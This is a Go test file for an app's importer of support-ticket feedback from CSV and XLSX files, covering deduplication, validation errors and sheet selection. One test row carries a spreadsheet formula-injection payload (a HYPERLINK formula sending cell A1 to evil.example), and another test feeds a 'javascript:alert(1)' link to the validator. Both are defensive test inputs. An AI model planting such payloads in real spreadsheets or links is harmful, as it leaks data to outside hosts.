package xlsx

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"canopy/app"
)

// supportCSV is twenty support requests as a help desk exports them: its
// own headers, some rows naming the item they ask for by title, one by ID,
// one without a date, and one whose text is a formula.
func supportCSV() string {
	var b strings.Builder
	b.WriteString("Ticket URL,Organization,Name,Comment,Created at,Priority,Feature,Segment,Channel,Tags\n")
	items := []string{"Resolve conflicts when the office and a technician edit the same job offline", "Xero connector for customers and invoices", "", "item-7jq56ctg"}
	for i := range 20 {
		date := fmt.Sprintf("2026-10-%02dT09:15:00Z", i+1)
		if i == 7 {
			date = ""
		}
		text := fmt.Sprintf("Request %d: the app lost my changes again", i+1)
		if i == 9 {
			text = `=HYPERLINK("http://evil.example/?"&A1,"click")`
		}
		fmt.Fprintf(&b, "https://support.example.com/t/%d,Customer %d,Contact %d,\"%s\",%s,%s,%s,SMB,support ticket,\"offline, sync\"\n",
			1000+i, i%7, i, strings.ReplaceAll(text, `"`, `""`), date, []string{"High", "urgent", "low", ""}[i%4], items[i%4])
	}
	return b.String()
}

func readInsightsCSV(t *testing.T, text string, ws *app.Workspace) *InsightPlan {
	t.Helper()
	p, err := ReadInsightsCSV(strings.NewReader(text), ws)
	if err != nil {
		t.Fatalf("ReadInsightsCSV: %v", err)
	}
	return p
}

func TestImportSupportRequestsTwice(t *testing.T) {
	ws := sampleWorkspace(t)
	before := ws.Count(app.KindInsight)
	target := "item-hdn9evv0"
	evBefore := app.ComputeEvidence(ws).Item(target)
	p := readInsightsCSV(t, supportCSV(), ws)
	if p.New != 20 || p.Invalid != 0 || p.Unchanged != 0 {
		t.Fatalf("plan %s\n%s", p.Summary(), strings.Join(p.Lines(ws), "\n"))
	}
	lines := strings.Join(p.Lines(ws), "\n")
	if !strings.Contains(lines, "→ Resolve conflicts when the office and a technician edit the same job offline") {
		t.Errorf("the preview does not say what a row links to:\n%s", lines)
	}
	if err := ws.Do(p.Command()); err != nil {
		t.Fatal(err)
	}
	if got := ws.Count(app.KindInsight) - before; got != 20 || len(p.Created) != 20 {
		t.Fatalf("%d insights added (%d created), want 20", got, len(p.Created))
	}
	byText := map[string]*app.Insight{}
	for _, id := range p.Created {
		in, _ := ws.Insight(id)
		byText[in.Text] = in
	}
	eighth := byText["Request 8: the app lost my changes again"]
	if eighth == nil || !eighth.Date.IsZero() {
		t.Errorf("a missing date must stay empty, got %+v", eighth)
	}
	first := byText["Request 1: the app lost my changes again"]
	if first == nil || first.Date.String() != "2026-10-01" || first.Company != "Customer 0" || first.Person != "Contact 0" ||
		first.Importance != app.ImportanceImportant || first.Source != "support ticket" || first.Segment != "SMB" ||
		first.Link != "https://support.example.com/t/1000" || !slices.Equal(first.Tags, []string{"offline", "sync"}) ||
		!slices.Equal(first.Items, []string{target}) || first.State != app.InsightNew {
		t.Errorf("first row imported as %+v", first)
	}
	if in := byText[`=HYPERLINK("http://evil.example/?"&A1,"click")`]; in == nil {
		t.Error("a formula in the feedback was not kept as its text")
	}
	if fourth := byText["Request 4: the app lost my changes again"]; fourth == nil || !slices.Equal(fourth.Items, []string{"item-7jq56ctg"}) {
		t.Errorf("an item given by ID: %+v", fourth)
	}
	if ev := app.ComputeEvidence(ws).Item(target); ev.Insights != evBefore.Insights+5 || ev.Demand <= evBefore.Demand {
		t.Errorf("evidence of %s: %+v, before %+v", target, ev, evBefore)
	}

	again := readInsightsCSV(t, supportCSV(), ws)
	if again.New != 0 || again.Unchanged != 20 {
		t.Fatalf("second import: %s\n%s", again.Summary(), strings.Join(again.Lines(ws), "\n"))
	}
}

func TestImportInsightsMatching(t *testing.T) {
	ws := sampleWorkspace(t)
	existing, _ := ws.Insight("insight-9g6ma1tt")
	tests := []struct {
		name, csv string
		new, same int
		why       string
	}{
		{"by ID", "ID,Text\ninsight-9g6ma1tt,anything\n", 0, 1, ""},
		{"by link", "Link,Feedback\n" + existing.Link + ",other words\n", 0, 1, "same link as insight-9g6ma1tt"},
		{"by text, customer and date", "Body,Customer,Date\n\"" + strings.ReplaceAll(existing.Text, " ", "  ") + "\",NORTHWIND HEATING & AIR," + existing.Date.String() + "\n", 0, 1, "same text, customer and date"},
		{"other date is new", "Body,Customer,Date\n\"" + existing.Text + "\",Northwind Heating & Air,2001-01-01\n", 1, 0, ""},
		{"twice in one file", "Text,Company\nHello,Acme\nHello,Acme\n", 1, 1, "same text, customer and date as row 2"},
		{"a new ID", "ID,Text\ninsight-new1,Hello\n", 1, 0, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			p := readInsightsCSV(t, tc.csv, ws)
			if p.New != tc.new || p.Unchanged != tc.same || p.Invalid != 0 {
				t.Fatalf("plan %s\n%s", p.Summary(), strings.Join(p.Lines(ws), "\n"))
			}
			if tc.why != "" && !strings.Contains(strings.Join(p.Lines(ws), "\n"), tc.why) {
				t.Errorf("preview does not say %q:\n%s", tc.why, strings.Join(p.Lines(ws), "\n"))
			}
		})
	}
}

func TestImportInsightsBadCells(t *testing.T) {
	ws := sampleWorkspace(t)
	tests := []struct {
		name, csv, want string
	}{
		{"unknown item by name", "Feedback,Item\nx,Teleport the van\n", `CSV!B2 (Item): no item has the ID or the title "Teleport the van"`},
		{"bad date", "Feedback,Date\nx,03/04/2026\n", `CSV!B2 (Date): "03/04/2026" is not a date: write it as YYYY-MM-DD`},
		{"bad importance", "Feedback,Importance\nx,meh\n", `CSV!B2 (Importance): "meh" is not an importance`},
		{"script link", "Feedback,URL\nx,javascript:alert(1)\n", `CSV!B2 (URL): "javascript:alert(1)" is not an http, https or mailto address`},
		{"empty text", "Feedback,Customer\n,Acme\n", "CSV!A2 (Feedback): is empty"},
		{"unknown persona", "Feedback,Persona\nx,Zed\n", `no persona has the ID or the title "Zed"`},
		{"bad ID", "ID,Feedback\nCON,x\n", "CSV!A2 (ID)"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			p := readInsightsCSV(t, tc.csv, ws)
			if p.Invalid != 1 {
				t.Fatalf("plan %s", p.Summary())
			}
			got := strings.Join(p.Lines(ws), "\n")
			if !strings.Contains(got, tc.want) {
				t.Errorf("preview:\n%s\nwant %q", got, tc.want)
			}
			before := ws.Count(app.KindInsight)
			if err := ws.Do(p.Command()); err == nil {
				t.Error("a plan with invalid rows applied without SkipInvalid")
			}
			p.SkipInvalid = true
			if err := ws.Do(p.Command()); err != nil || ws.Count(app.KindInsight) != before {
				t.Errorf("skip-invalid: %v, %d insights added", err, ws.Count(app.KindInsight)-before)
			}
		})
	}
	for _, csv := range []string{"Customer,Date\nAcme,2026-01-01\n", "Text,Feedback\nx,y\n", ""} {
		if _, err := ReadInsightsCSV(strings.NewReader(csv), ws); err == nil {
			t.Errorf("%q: no error", csv)
		}
	}
}

// TestImportInsightsOneIDTwice: two rows giving one new ID are one new
// insight and one invalid row that says which row holds the ID, and the
// plan applies (the fuzzer found the second row refused at apply time).
func TestImportInsightsOneIDTwice(t *testing.T) {
	ws := sampleWorkspace(t)
	p := readInsightsCSV(t, "ID,Feedback\n00,x\n00,y\n", ws)
	if p.New != 1 || p.Invalid != 1 {
		t.Fatalf("plan %s", p.Summary())
	}
	if got, want := strings.Join(p.Lines(ws), "\n"), `CSV!A3 (ID): row 2 gives the ID "00" too`; !strings.Contains(got, want) {
		t.Errorf("preview:\n%s\nwant %q", got, want)
	}
	p.SkipInvalid = true
	if err := ws.Do(p.Command()); err != nil {
		t.Fatal(err)
	}
	if in, ok := ws.Insight("00"); !ok || in.Text != "x" {
		t.Errorf("insight 00: %+v, %v", in, ok)
	}
}

func TestImportInsightsXLSX(t *testing.T) {
	ws := sampleWorkspace(t)
	f := excelize.NewFile()
	defer f.Close()
	// The first sheet is not feedback; the Insights sheet is read.
	if err := f.SetCellStr("Sheet1", "A1", "Not this"); err != nil {
		t.Fatal(err)
	}
	if _, err := f.NewSheet("insights"); err != nil {
		t.Fatal(err)
	}
	rows := [][]any{
		{"Feedback", "Company", "Date", "Items"},
		{"=1+1", "Acme", 46000, "Xero connector for customers and invoices\nitem-7jq56ctg"},
		{"Plain", "Beta", "2026-02-03", ""},
	}
	for i, r := range rows {
		cell, _ := excelize.CoordinatesToCellName(1, i+1)
		if err := f.SetSheetRow("insights", cell, &r); err != nil {
			t.Fatal(err)
		}
	}
	var buf bytes.Buffer
	if err := f.Write(&buf); err != nil {
		t.Fatal(err)
	}
	p, err := ReadInsights(bytes.NewReader(buf.Bytes()), int64(buf.Len()), ws)
	if err != nil {
		t.Fatal(err)
	}
	if p.Sheet != "insights" || p.New != 2 || p.Invalid != 0 {
		t.Fatalf("plan %s %s\n%s", p.Sheet, p.Summary(), strings.Join(p.Lines(ws), "\n"))
	}
	in := p.Rows[0].insight
	if in.Text != "=1+1" || in.Date.String() != "2025-12-09" || !slices.Equal(in.Items, []string{"item-7jq56ctg", "item-f6c8dgh0"}) {
		t.Errorf("row 2 read as %+v", in)
	}
}
